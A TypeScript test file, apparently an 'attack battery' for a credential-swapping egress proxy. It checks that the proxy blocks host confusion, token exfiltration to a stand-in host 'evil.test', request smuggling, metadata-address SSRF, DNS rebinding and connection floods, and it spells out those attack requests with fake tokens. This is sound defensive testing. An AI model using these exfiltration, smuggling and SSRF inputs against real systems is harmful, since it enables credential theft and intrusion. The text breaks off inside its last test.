/**
 * `agent-smith proxy` against an attack battery: a real proxy process, a real HTTPS
 * upstream serving several names (test/fakes/https-upstream.ts, recording every byte it
 * receives), and clients that speak as agents and as attackers do.
 *
 * Every test asserts the refusal (or the safe outcome), and afterEach asserts the three
 * things that must hold whatever happened: no real credential value (in any encoding)
 * reached a host outside its credential's scope, none came back to the agent, and none
 * is in any line the proxy logged.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Matcher, needlesFor } from '../../agent-image/src/programs/proxy/match.ts';
import { startHttpsUpstream, type HttpsUpstream } from '../fakes/https-upstream.ts';
import {
  connect,
  dial,
  exchange,
  metric,
  startProxy,
  startTls,
  viaConnect,
  viaPlain,
  viaTransparentTls,
  type CredentialFixture,
  type ProxyFixture,
  type RawResponse,
} from './proxy-harness.ts';

const GITHUB_REAL = 'ghp_R3alT0kenValue0123456789abcdefABCDEF';
const GITHUB_STUB = 'agent-smith-stub-AAAAbbbbCCCCddddEEEEffffGGGGhhhhIIIIjjjj0123';
const ANTHROPIC_REAL = 'sk-ant-api03-REALrealREALrealREALreal-0123456789';
const ANTHROPIC_STUB = 'agent-smith-stub-ZZZZyyyyXXXXwwwwVVVVuuuuTTTTssssRRRRqqqq9876';
const CI_REAL = 'ci-real-token-0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d';
const CI_STUB = 'agent-smith-stub-CCCCiiiiCCCCiiiiCCCCiiiiCCCCiiiiCCCCiiii5555';

const CREDENTIALS: CredentialFixture[] = [
  { name: 'github', hosts: ['api.test'], scheme: 'basic', header: 'Authorization', stub: GITHUB_STUB, require: false, real: GITHUB_REAL },
  { name: 'anthropic', hosts: ['anthropic.test'], scheme: 'raw', header: 'x-api-key', stub: ANTHROPIC_STUB, require: true, real: ANTHROPIC_REAL },
  { name: 'ci', hosts: ['ci.test'], scheme: 'bearer', header: 'Authorization', stub: CI_STUB, require: false, real: CI_REAL, allowWebSocket: true },
];
const SERVED = ['api.test', 'anthropic.test', 'ci.test', 'other.test', 'evil.test', 'a.wild.test', 'deep.a.wild.test', 'wild.test', 'notallowed.test'];
const ALLOW = ['api.test', 'anthropic.test', 'ci.test', 'other.test', 'evil.test', '*.wild.test', 'wrongcert.test', 'metadata.test', 'rebind.test', 'mixed.test'];

const REALS = new Matcher(CREDENTIALS.flatMap((c) => needlesFor(c.real, c.stub, c.name)));
const STUBS = new Matcher(CREDENTIALS.flatMap((c) => needlesFor(c.stub, c.stub, c.name)));

const basic = (pass: string, user = 'x-access-token') => `Basic ${Buffer.from(`${user}:${pass}`).toString('base64')}`;

/** One request as bytes: `Connection: close`, Content-Length when there is a body. */
function request(method: string, target: string, host: string | null, fields: string[] = [], body?: string): Buffer {
  const lines = [`${method} ${target} HTTP/1.1`, ...(host !== null ? [`Host: ${host}`] : []), ...fields];
  if (body !== undefined) lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
  lines.push('Connection: close');
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n${body ?? ''}`);
}

function expectDenied(res: RawResponse, status: number, reason: string): void {
  expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }, res.body.toString()).toEqual({ status, reason });
}

describe('agent-smith proxy: attack battery', () => {
  let up: HttpsUpstream;
  let fx: ProxyFixture;
  let strict: ProxyFixture;
  let mark = 0;
  const responses: RawResponse[] = [];

  /** Records the response for the afterEach leak check. */
  const seen = (r: RawResponse): RawResponse => {
    responses.push(r);
    return r;
  };

  /** The first audit line since this test began that matches. */
  const audit = (pred: (l: Record<string, unknown>) => boolean, proxy: ProxyFixture = fx) => proxy.waitForLog((l) => l.audit === true && proxy.logs().indexOf(l) >= mark && pred(l), 5_000);

  beforeAll(async () => {
    up = await startHttpsUpstream({ names: SERVED, wrongCert: ['wrongcert.test'] });
    const ports = { '443': up.httpsPort, '80': up.httpPort };
    const hosts: Record<string, { addresses: string[]; ports?: Record<string, number> }> = {};
    for (const name of [...SERVED, 'wrongcert.test']) hosts[name] = { addresses: ['127.0.0.1'], ports };
    hosts['metadata.test'] = { addresses: ['169.254.169.254'], ports };
    hosts['rebind.test'] = { addresses: ['127.0.0.1'], ports };
    hosts['mixed.test'] = { addresses: ['93.184.216.34', '127.0.0.1'], ports };
    const base = { allow: ALLOW, credentials: CREDENTIALS, hosts, upstreamCa: [up.caPem] };
    // The upstream fake lives on loopback, so the main proxy opens it; `strict` does not.
    fx = await startProxy({ ...base, allowCidrs: ['127.0.0.0/8', '::1/128'] });
    strict = await startProxy({ ...base, allowCidrs: [] });
  });

  afterAll(async () => {
    await fx?.stop();
    await strict?.stop();
    await up?.close();
  });

  beforeEach(() => {
    up.clear();
    responses.length = 0;
    mark = fx.logs().length;
  });

  afterEach(async () => {
    // Let the proxies' last log lines of this test arrive before checking them.
    for (let stable = 0, last = -1; stable < 3; ) {
      await new Promise((r) => setTimeout(r, 50));
      const n = fx.output().length + strict.output().length;
      stable = n === last ? stable + 1 : 0;
      last = n;
    }
    // 1. No real value reached a host outside its credential's scope.
    for (const entry of up.received) {
      const text = Buffer.concat(entry.bytes);
      const hit = REALS.first(text);
      if (hit) expect(CREDENTIALS.find((c) => c.name === hit.needle.tag)?.hosts, `real ${hit.needle.tag} reached ${entry.sni ?? 'a plain-HTTP host'}`).toContain(entry.sni);
    }
    // 2. None came back to the agent.
    for (const r of responses) expect(REALS.first(Buffer.concat([Buffer.from(r.head), r.body])), 'a real value in a response').toBeUndefined();
    // 3. None is logged, and no stub either.
    expect(REALS.first(fx.output()), 'a real value in the proxy log').toBeUndefined();
    expect(REALS.first(strict.output()), 'a real value in the strict proxy log').toBeUndefined();
    expect(STUBS.first(fx.output()), 'a stub in the proxy log').toBeUndefined();
  });

  describe('credential swap (the happy paths the battery guards)', () => {
    it('swaps a Basic stub (git x-access-token) on an in-scope host over CONNECT, and scrubs the echo', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expect(res.status).toBe(200);
      expect(up.requests[0]?.rawHeaders).toContain(basic(GITHUB_REAL));
      expect(up.requests[0]?.rawHeaders).toEqual(expect.arrayContaining(['Accept-Encoding', 'identity']));
      // The echo carried the real value back: the agent gets the stub in its place.
      expect(res.body.toString()).toContain(basic(GITHUB_STUB));
      const line = await audit((l) => l.method === 'GET');
      expect(line).toMatchObject({ decision: 'allow', mode: 'connect', host: 'api.test', port: 443, rule: 'api.test', credential: 'github', location: 'header:authorization', status: 200 });
    });

    it('swaps a Bearer stub over transparent TLS (SNI) and a raw x-api-key with require on', async () => {
      const r1 = seen(await viaTransparentTls(fx, 'ci.test', request('GET', '/echo', 'ci.test', [`Authorization: Bearer ${CI_STUB}`])));
      expect(r1.status).toBe(200);
      const r2 = seen(await viaTransparentTls(fx, 'anthropic.test', request('POST', '/v1/messages', 'anthropic.test', [`x-api-key: ${ANTHROPIC_STUB}`], '{"model":"m"}')));
      expect(r2.status).toBe(200);
      expect(up.requests.map((r) => r.rawHeaders.join('\n')).join('\n')).toContain(`Bearer ${CI_REAL}`);
      expect(up.requests[1]?.rawHeaders).toContain(ANTHROPIC_REAL);
      expect(up.requests[1]?.body).toBe('{"model":"m"}');
      expect((await audit((l) => l.host === 'ci.test')).mode).toBe('transparent');
    });

    it('scrubs real values from response headers and a body split across chunks, raw and base64', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', '/reflect-auth', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expect(res.status).toBe(200);
      expect(res.headers['x-seen-authorization']).toEqual([basic(GITHUB_STUB)]);
      expect(res.body.toString()).toContain(`auth=${basic(GITHUB_STUB)}`);
      expect(res.headers['content-length']).toBeUndefined();
      expect(await metric(fx, 'agentsmith_proxy_scrubbed_total{credential="github"}')).toBeGreaterThan(0);
    });

    it('relays server-sent events as they come (the hold-back does not delay them)', async () => {
      const { socket } = await connect(fx.port, 'ci.test:443');
      const t = await startTls(socket, { servername: 'ci.test', caPem: fx.caPem });
      const arrivals: number[] = [];
      const start = Date.now();
      t.on('data', (d: Buffer) => {
        if (d.includes('event: tick')) arrivals.push(Date.now() - start);
      });
      t.write(request('GET', '/sse', 'ci.test', [`Authorization: Bearer ${CI_STUB}`]));
      await new Promise((r) => t.once('end', r));
      t.destroy();
      expect(arrivals.length).toBeGreaterThanOrEqual(2);
      // Three events 150 ms apart: the first must not wait for the last.
      expect((arrivals.at(-1) ?? 0) - (arrivals[0] ?? 0)).toBeGreaterThanOrEqual(200);
    });

    it('forwards a WebSocket upgrade to an opted-in credential host after the policy check and the swap, then pipes bytes', async () => {
      const { socket } = await connect(fx.port, 'ci.test:443');
      const t = await startTls(socket, { servername: 'ci.test', caPem: fx.caPem });
      const res = seen(
        await exchange(
          t,
          `GET /ws HTTP/1.1\r\nHost: ci.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer ${CI_STUB}\r\n\r\n`,
        ),
      );
      expect(res.status).toBe(101);
      expect(res.headers['sec-websocket-accept']).toEqual(['s3pPLMBiTxaQ9kYGzzhZRbK+xOo=']);
      expect(res.headers['x-seen-authorization']).toEqual([`Bearer ${CI_STUB}`]);
      expect(up.requests[0]?.rawHeaders).toContain(`Bearer ${CI_REAL}`);
      const echoed = new Promise<Buffer>((r) => t.once('data', r));
      t.write('ping-bytes');
      expect((await echoed).toString()).toBe('ping-bytes');
      t.destroy();
    });

    it('refuses a WebSocket upgrade that carries a stub to a foreign host', async () => {
      const { socket } = await connect(fx.port, 'evil.test:443');
      const t = await startTls(socket, { servername: 'evil.test', caPem: fx.caPem });
      const res = seen(await exchange(t, `GET /ws HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-T: ${GITHUB_STUB}\r\n\r\n`));
      t.destroy();
      expectDenied(res, 403, 'stub_out_of_scope');
      expect(up.requests).toEqual([]);
    });
  });

  describe('host confusion', () => {
    it('CONNECT A then SNI B: the handshake is refused, nothing reaches B', async () => {
      const { socket, res } = await connect(fx.port, 'api.test:443');
      expect(res.status).toBe(200);
      await expect(startTls(socket, { servername: 'evil.test', caPem: fx.caPem })).rejects.toThrow();
      expect(await audit((l) => l.method === 'TLS')).toMatchObject({ decision: 'deny', reason: 'host_mismatch' });
      expect(up.received).toEqual([]);
    });

    it('CONNECT A then Host B with the stub: 421, nothing reaches either', async () => {
      const res = seen(await viaConnect(fx, 'evil.test:443', request('GET', '/echo', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expectDenied(res, 421, 'host_mismatch');
      expect(up.requests).toEqual([]);
    });

    it('absolute-form to C inside a tunnel to A: 421', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', 'https://evil.test/echo', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expectDenied(res, 421, 'host_mismatch');
      expect(up.requests).toEqual([]);
    });

    it('explicit absolute-form to C with Host A: 421', async () => {
      const res = seen(await viaPlain(fx, request('GET', 'http://evil.test/echo', 'api.test')));
      expectDenied(res, 421, 'host_mismatch');
      expect(up.requests).toEqual([]);
    });

    it('transparent TLS with SNI A and Host B: 421', async () => {
      const res = seen(await viaTransparentTls(fx, 'api.test', request('GET', '/echo', 'evil.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expectDenied(res, 421, 'host_mismatch');
      expect(up.requests).toEqual([]);
    });

    it('CONNECT with a Host header naming another host: 421 before the tunnel opens', async () => {
      const { socket, res } = await connect(fx.port, 'api.test:443', 'evil.test:443');
      socket.destroy();
      expectDenied(seen(res), 421, 'host_mismatch');
    });

    it('a second CONNECT inside a tunnel is refused', async () => {
      const { socket } = await connect(fx.port, 'other.test:80');
      const res = seen(await exchange(socket, 'CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n'));
      socket.destroy();
      expectDenied(res, 400, 'bad_request');
    });
  });

  describe('allowlist: wildcards, IP literals, ports', () => {
    it('*.wild.test allows its subdomains at any depth, not the apex or a look-alike', async () => {
      expect(seen(await viaConnect(fx, 'a.wild.test:443', request('GET', '/echo', 'a.wild.test'))).status).toBe(200);
      expect(seen(await viaConnect(fx, 'deep.a.wild.test:443', request('GET', '/echo', 'deep.a.wild.test'))).status).toBe(200);
      for (const host of ['wild.test', 'evilwild.test', 'wild.test.notallowed.test', 'a.wild.test.evil']) {
        const { socket, res } = await connect(fx.port, `${host}:443`);
        socket.destroy();
        expectDenied(seen(res), 403, 'not_allowed');
      }
    });

    it('refuses a host that is not allowed before minting a certificate (CONNECT and transparent SNI)', async () => {
      const misses = await metric(fx, 'agentsmith_proxy_cert_cache_total{result="miss"}');
      const { socket, res } = await connect(fx.port, 'notallowed.test:443');
      socket.destroy();
      expectDenied(seen(res), 403, 'not_allowed');
      await expect(startTls(await dial(fx.port), { servername: 'notallowed.test', caPem: fx.caPem })).rejects.toThrow();
      expect(await audit((l) => l.method === 'TLS' && l.host === 'notallowed.test')).toMatchObject({ decision: 'deny', reason: 'not_allowed' });
      expect(await metric(fx, 'agentsmith_proxy_cert_cache_total{result="miss"}')).toBe(misses);
      expect(up.received).toEqual([]);
    });

    it('refuses IP literals in every encoding (dotted, decimal, hex, octal, IPv4-mapped IPv6, IPv6)', async () => {
      for (const authority of ['127.0.0.1:443', '2130706433:443', '0x7f.1:443', '0177.0.0.1:443', '[::ffff:127.0.0.1]:443', '[::1]:443', '127.1:443']) {
        const { socket, res } = await connect(fx.port, authority);
        socket.destroy();
        expect(seen(res).status, authority).toBe(403);
        expect(res.headers['x-agent-smith-deny']?.[0], authority).toBe('not_allowed');
      }
      expectDenied(seen(await viaPlain(fx, request('GET', 'http://0x7f000001/echo', '0x7f000001'))), 403, 'not_allowed');
      expectDenied(seen(await viaPlain(fx, request('GET', '/echo', '127.0.0.1'))), 403, 'not_allowed');
      expect(up.received).toEqual([]);
    });

    it('refuses names a parser would rewrite: trailing dot, percent escapes, userinfo', async () => {
      for (const authority of ['api.test.:443', 'api%2etest:443', 'evil.test@api.test:443']) {
        const { socket, res } = await connect(fx.port, authority);
        socket.destroy();
        expect(seen(res).status, authority).toBe(400);
      }
      expectDenied(seen(await viaPlain(fx, request('GET', 'http://x-access-token@evil.test/echo', 'evil.test'))), 400, 'bad_request');
    });

    it('refuses ports the allowlist does not name', async () => {
      const { socket, res } = await connect(fx.port, 'api.test:8443');
      socket.destroy();
      expectDenied(seen(res), 403, 'bad_port');
      expectDenied(seen(await viaPlain(fx, request('GET', 'http://other.test:8080/echo', 'other.test:8080'))), 403, 'bad_port');
      const noPort = await connect(fx.port, 'api.test', 'api.test');
      noPort.socket.destroy();
      expectDenied(seen(noPort.res), 403, 'bad_port');
    });
  });

  describe('address guard', () => {
    it('never dials a cloud metadata address, even with allowCidrs', async () => {
      const { socket, res } = await connect(fx.port, 'metadata.test:443');
      socket.destroy();
      expectDenied(seen(res), 403, 'forbidden_address');
      expect(res.body.toString()).toContain('169.254.169.254');
    });

    it('without the allowCidrs exception, a name resolving to loopback is refused (DNS rebinding)', async () => {
      for (const host of ['rebind.test', 'mixed.test', 'api.test']) {
        const { socket, res } = await connect(strict.port, `${host}:443`);
        socket.destroy();
        expectDenied(seen(res), 403, 'forbidden_address');
      }
      expectDenied(seen(await viaPlain(strict, request('GET', '/echo', 'rebind.test'))), 403, 'forbidden_address');
      expect(up.received).toEqual([]);
    });
  });

  describe('stub laundering and real values', () => {
    it('refuses the stub in a header to a foreign host (raw, Bearer, base64 in Basic)', async () => {
      for (const field of [`Authorization: Bearer ${GITHUB_STUB}`, `X-Note: ${GITHUB_STUB}`, `Authorization: ${basic(GITHUB_STUB)}`, `X-B64: ${Buffer.from(`pad${ANTHROPIC_STUB}`).toString('base64')}`]) {
        const res = seen(await viaConnect(fx, 'evil.test:443', request('GET', '/echo', 'evil.test', [field])));
        expectDenied(res, 403, 'stub_out_of_scope');
      }
      expect(up.requests).toEqual([]);
      expect(await audit((l) => l.reason === 'stub_out_of_scope' && l.location === 'header:authorization')).toMatchObject({ decision: 'deny', host: 'evil.test', port: 443, rule: 'evil.test', credential: 'github' });
    });

    it('refuses a token in the query string to a foreign host, and logs no query value', async () => {
      const res = seen(await viaConnect(fx, 'evil.test:443', request('GET', `/collect?token=${GITHUB_STUB}&page=2`, 'evil.test')));
      expectDenied(res, 403, 'stub_out_of_scope');
      expect(await audit((l) => l.reason === 'stub_out_of_scope' && l.location === 'target')).toMatchObject({ path: '/collect?token&page', host: 'evil.test' });
      expect(up.requests).toEqual([]);
    });

    it('passes a stub in the query to an in-scope host unswapped, and logs the path without its value', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', `/search?q=${GITHUB_STUB}`, 'api.test')));
      expect(res.status).toBe(200);
      expect(up.requests[0]?.url).toBe(`/search?q=${GITHUB_STUB}`);
      expect(await audit((l) => l.method === 'GET' && l.host === 'api.test')).toMatchObject({ decision: 'allow', path: '/search?q' });
    });

    it('refuses the stub in a body to a foreign host', async () => {
      const res = seen(await viaConnect(fx, 'evil.test:443', request('POST', '/paste', 'evil.test', ['Content-Type: application/json'], JSON.stringify({ token: ANTHROPIC_STUB }))));
      expectDenied(res, 403, 'stub_out_of_scope');
      expect(up.receivedFor('evil.test')).not.toContain(ANTHROPIC_STUB);
      expect(await audit((l) => l.reason === 'stub_out_of_scope')).toMatchObject({ credential: 'anthropic', location: 'body' });
    });

    it('refuses a stub split across body chunks before any of it leaves', async () => {
      const body = `{"a":"${'x'.repeat(2000)}","t":"${GITHUB_STUB}","z":"${'y'.repeat(500)}"}`;
      const at = body.indexOf(GITHUB_STUB) + 20;
      const head = `POST /paste HTTP/1.1\r\nHost: evil.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`;
      const chunk = (s: string) => `${Buffer.byteLength(s).toString(16)}\r\n${s}\r\n`;
      const res = seen(await viaConnect(fx, 'evil.test:443', [head + chunk(body.slice(0, at)), chunk(body.slice(at)) + '0\r\n\r\n'], { gapMs: 150 }));
      expectDenied(res, 403, 'stub_out_of_scope');
      const got = up.receivedFor('evil.test');
      expect(got).not.toContain(GITHUB_STUB.slice(0, 20));
      expect(got).not.toContain(GITHUB_STUB);
    });

    it('passes a stub in a body to an in-scope host unchanged (bodies are never swapped)', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('POST', '/echo', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`], `token=${GITHUB_STUB}`)));
      expect(res.status).toBe(200);
      expect(up.requests[0]?.body).toBe(`token=${GITHUB_STUB}`);
    });

    it('require: refuses a request without the stub, and one carrying the real key directly', async () => {
      const noStub = seen(await viaConnect(fx, 'anthropic.test:443', request('POST', '/v1/messages', 'anthropic.test', [], '{}')));
      expectDenied(noStub, 403, 'missing_stub');
      const real = seen(await viaConnect(fx, 'anthropic.test:443', request('POST', '/v1/messages', 'anthropic.test', [`x-api-key: ${ANTHROPIC_REAL}`], '{}')));
      expectDenied(real, 403, 'real_credential');
      expect(up.requests).toEqual([]);
    });

    it('refuses a real value in a body to any host', async () => {
      for (const host of ['evil.test', 'api.test']) {
        const res = seen(await viaConnect(fx, `${host}:443`, request('POST', '/paste', host, [], `leak=${GITHUB_REAL}`)));
        expectDenied(res, 403, 'real_credential');
        expect(up.receivedFor(host)).not.toContain(GITHUB_REAL);
      }
    });

    it('never sends a credential over plain HTTP', async () => {
      const res = seen(await viaPlain(fx, request('GET', 'http://ci.test/echo', 'ci.test', [`Authorization: Bearer ${CI_STUB}`])));
      expectDenied(res, 403, 'plaintext_credential');
      expect(up.requests).toEqual([]);
    });
  });

  describe('header smuggling and malformed credentials', () => {
    it('refuses duplicate and case-variant Authorization headers', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`, `authorization: ${basic('other')}`])));
      expectDenied(res, 400, 'duplicate_header');
      const variant = seen(await viaConnect(fx, 'anthropic.test:443', request('GET', '/echo', 'anthropic.test', [`x-api-key: ${ANTHROPIC_STUB}`, `X_Api_Key: ${ANTHROPIC_STUB}`])));
      expectDenied(variant, 400, 'header_name_variant');
      expect(up.requests).toEqual([]);
    });

    it('refuses a duplicate Host header and a missing one', async () => {
      expectDenied(seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo', 'api.test', ['Host: evil.test']))), 400, 'duplicate_header');
      expectDenied(seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo', null))), 400, 'bad_request');
      expect(up.requests).toEqual([]);
    });

    it('refuses a malformed Basic credential (400)', async () => {
      for (const value of ['Basic !!!notbase64', `Basic ${Buffer.from('no-colon-here').toString('base64')}`]) {
        expectDenied(seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo', 'api.test', [`Authorization: ${value}`]))), 400, 'bad_basic');
      }
      expect(up.requests).toEqual([]);
    });

    it('refuses Content-Length with Transfer-Encoding (Node parser), obs-fold, CR inside a value, and TE other than chunked', async () => {
      const cases: Array<[string, number, string]> = [
        [`POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`, 400, 'smuggling'],
        [`GET /echo HTTP/1.1\r\nHost: api.test\r\nX-Folded: a\r\n  ${GITHUB_STUB}\r\n\r\n`, 400, 'bad_request'],
        [`GET /echo HTTP/1.1\r\nHost: api.test\r\nX-A: b\rInjected: 1\r\n\r\n`, 400, 'bad_request'],
        [`POST /echo HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n`, 501, 'bad_transfer_encoding'],
      ];
      for (const [raw, status, reason] of cases) {
        const res = seen(await viaConnect(fx, 'api.test:443', Buffer.from(raw)));
        expectDenied(res, status, reason);
      }
      expect(up.requests).toEqual([]);
    });

    it('re-frames a chunked body and strips hop-by-hop and Proxy-* fields', async () => {
      const raw =
        `POST /echo HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nProxy-Authorization: Basic eDp5\r\nKeep-Alive: 5\r\n\r\n` +
        `5\r\nhello\r\n0\r\n\r\n`;
      const res = seen(await viaConnect(fx, 'other.test:443', Buffer.from(raw)));
      expect(res.status).toBe(200);
      const got = up.requests[0];
      expect(got?.body).toBe('hello');
      const names = (got?.rawHeaders ?? []).filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
      expect(names).not.toEqual(expect.arrayContaining(['x-hop']));
      expect(names.filter((n) => n === 'x-hop' || n === 'proxy-authorization' || n === 'keep-alive')).toEqual([]);
    });

    it('refuses TRACE, which would echo the swapped credential', async () => {
      expectDenied(seen(await viaConnect(fx, 'api.test:443', request('TRACE', '/', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`]))), 405, 'bad_method');
      expect(up.requests).toEqual([]);
    });

    it('refuses dot segments in the path', async () => {
      expectDenied(seen(await viaConnect(fx, 'api.test:443', request('GET', '/repos/../admin', 'api.test'))), 400, 'bad_path');
      expectDenied(seen(await viaConnect(fx, 'api.test:443', request('GET', '/repos/%2e%2E/admin', 'api.test'))), 400, 'bad_path');
    });

    it('answers 431 to a header section over 16 KiB', async () => {
      const res = seen(await viaPlain(fx, request('GET', 'http://other.test/echo', 'other.test', [`X-Big: ${'a'.repeat(17 * 1024)}`])));
      expect(res.status).toBe(431);
    });
  });

  describe('responses: redirects, compression', () => {
    it('passes a redirect to another host through untouched and does not follow it', async () => {
      const res = seen(await viaConnect(fx, 'api.test:443', request('GET', '/redirect?to=https://evil.test/steal', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      expect(res.status).toBe(302);
      expect(res.headers.location).toEqual(['https://evil.test/steal']);
      expect(up.requests.map((r) => r.sni)).toEqual(['api.test']);
    });

    it('decodes and scrubs a compressed body from a credential host, passes it from others as it is', async () => {
      const scoped = seen(await viaConnect(fx, 'api.test:443', request('GET', '/gzip', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`, 'Accept-Encoding: gzip'])));
      expect(scoped.status).toBe(200);
      expect(scoped.headers['content-encoding']).toBeUndefined();
      expect(scoped.body.toString()).toBe(`gzipped for ${basic(GITHUB_STUB)}\n`);
      const other = seen(await viaConnect(fx, 'other.test:443', request('GET', '/gzip', 'other.test', ['Accept-Encoding: gzip'])));
      expect(other.status).toBe(200);
      expect(other.headers['content-encoding']).toEqual(['gzip']);
      const scopedReq = up.requests.find((r) => r.sni === 'api.test');
      expect(scopedReq?.rawHeaders).toEqual(expect.arrayContaining(['Accept-Encoding', 'identity']));
      expect(scopedReq?.rawHeaders).not.toContain('gzip');
    });
  });

  describe('TLS', () => {
    it('refuses transparent TLS without SNI', async () => {
      await expect(startTls(await dial(fx.port), { caPem: fx.caPem })).rejects.toThrow();
      expect(await audit((l) => l.method === 'TLS')).toMatchObject({ decision: 'deny', reason: 'no_sni', mode: 'transparent' });
      expect(up.received).toEqual([]);
    });

    it('offers HTTP/1.1 only: a client that insists on h2 is refused', async () => {
      await expect(startTls(await dial(fx.port), { servername: 'api.test', caPem: fx.caPem, alpn: ['h2'] })).rejects.toThrow(/application protocol/i);
    });

    it('presents a leaf for the host only, which the agent verifies against the egress CA', async () => {
      const t = await startTls(await dial(fx.port), { servername: 'other.test', caPem: fx.caPem });
      const cert = t.getPeerCertificate();
      t.destroy();
      expect(cert.subjectaltname).toBe('DNS:other.test');
      expect(new Date(cert.valid_to).getTime() - Date.now()).toBeLessThanOrEqual(24 * 3600_000 + 60_000);
    });

    it('refuses an upstream whose certificate is not for the host; the request is not sent', async () => {
      const res = seen(await viaConnect(fx, 'wrongcert.test:443', request('GET', '/echo', 'wrongcert.test', ['X-Canary: 1'])));
      expectDenied(res, 502, 'upstream_tls');
      expect(up.requests).toEqual([]);
      expect(up.allReceived()).not.toContain('X-Canary');
    });
  });

  describe('observability', () => {
    it('writes one audit line per request without values, and serves metrics', async () => {
      const before = fx.audits().length;
      seen(await viaConnect(fx, 'api.test:443', request('GET', '/echo?secret=hunter2', 'api.test', [`Authorization: ${basic(GITHUB_STUB)}`])));
      const line = await audit((l) => l.method === 'GET');
      expect(Object.keys(line)).toEqual(expect.arrayContaining(['time', 'mode', 'host', 'port', 'method', 'path', 'decision', 'reason', 'rule', 'credential', 'location', 'status', 'bytesIn', 'bytesOut', 'durationMs']));
      expect(line.path).toBe('/echo?secret');
      expect(fx.output()).not.toContain('hunter2');
      // The CONNECT and the GET: two lines.
      await audit((l) => l.method === 'GET');
      expect(fx.audits().length - before).toBe(2);
      const { body } = await fx.health('/metrics');
      expect(body).toMatch(/agentsmith_proxy_decisions_total\{decision="allow",reason="ok",mode="connect"\} \d+/);
      expect(body).toMatch(/agentsmith_proxy_swaps_total\{credential="github",location="header:authorization"\} \d+/);
      expect(body).toMatch(/agentsmith_proxy_request_duration_seconds_bucket/);
      expect(body).toMatch(/agentsmith_proxy_cert_cache_size \d+/);
      expect(body).toMatch(/agentsmith_proxy_decisions_total\{decision="deny",reason="stub_out_of_scope"/);
      expect((await fx.health('/readyz')).status).toBe(200);
      expect((await fx.health('/healthz')).status).toBe(200);
    });

    it('listens on loopback only', async () => {
      const { networkInterfaces } = await import('node:os');
      const external = Object.values(networkInterfaces())
        .flat()
        .find((i) => i && !i.internal && i.family === 'IPv4');
      if (!external) return;
      await expect(dial(fx.port, external.address)).rejects.toThrow(/ECONNREFUSED/);
      // ::1 answers too (where IPv6 is on).
      const v6 = await dial(fx.port, '::1').catch(() => undefined);
      if (v6) {
        const res = seen(await exchange(v6, request('GET', 'http://other.test/echo', 'other.test')));
        expect(res.status).toBe(200);
        v6.destroy();
      }
    });
  });

  it('at 256 connections closes the one waiting longest to serve a new client, and idle ones that never finish a handshake after 10 s', async () => {
    const idle = await Promise.all(Array.from({ length: 256 }, () => dial(fx.port)));
    const closed = idle.map((s) => new Promise<number>((r) => s.once('close', () => r(Date.now()))));
    for (const s of idle) s.on('error', () => undefined);
    // The 257th is served: the oldest connection with nothing in flight makes room.
    const start = Date.now();
    expect(seen(await viaPlain(fx, request('GET', 'http://other.test/echo', 'other.test'))).status).toBe(200);
    expect(await metric(fx, 'agentsmith_proxy_connections_closed_total{reason="evicted"}')).toBeGreaterThanOrEqual(1);
    expect(await metric(fx, 'agentsmith_proxy_connections_refused_total{reason="limit"}')).toBe(0);
    // Slowloris: nothing sent, so each is closed by the handshake deadline.
    const at = await Promise.all(closed);
    expect(Math.max(...at) - start).toBeLessThan(12_000);
    expect(at.filter((t) => t - start < 8_000)).toHaveLength(1);
    expect(await metric(fx, 'agentsmith_proxy_connections_closed_total{reason="handshake_timeout"}')).toBeGreaterThanOrEqual(255);
    // Capacity is back.
    expect(seen(await viaPlain(fx, request('GET', 'http://other.test/echo', 'other.test'))).status).toBe(200);
  }, 30_000);

  it('answers a pipelined keep-alive connection in order', async () => {
    const { socket } = await connect(fx.port, 'other.test:443');
    const t = await startTls(socket, { servername: 'other.test', caPem: fx.caPem });
    const chunks: Buffer[] = [];
    t.on('data', (d: Buffer) => chunks.push(d));
    const ended = new Promise((r) => t.once('end', r));
    t.write('GET /echo?n=1 HTTP/1.1\r\nHost: other.test\r\n\r\nGET /echo?n=2 HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n');
    await ended;
    t.destroy();
    const all = Buffer.concat(chunks).toString();
    expect(all.match(/HTTP\/1\.1 200/g)).toHaveLength(2);
    expect(all.indexOf('/echo?n=1')).toBeGreaterThan(0);
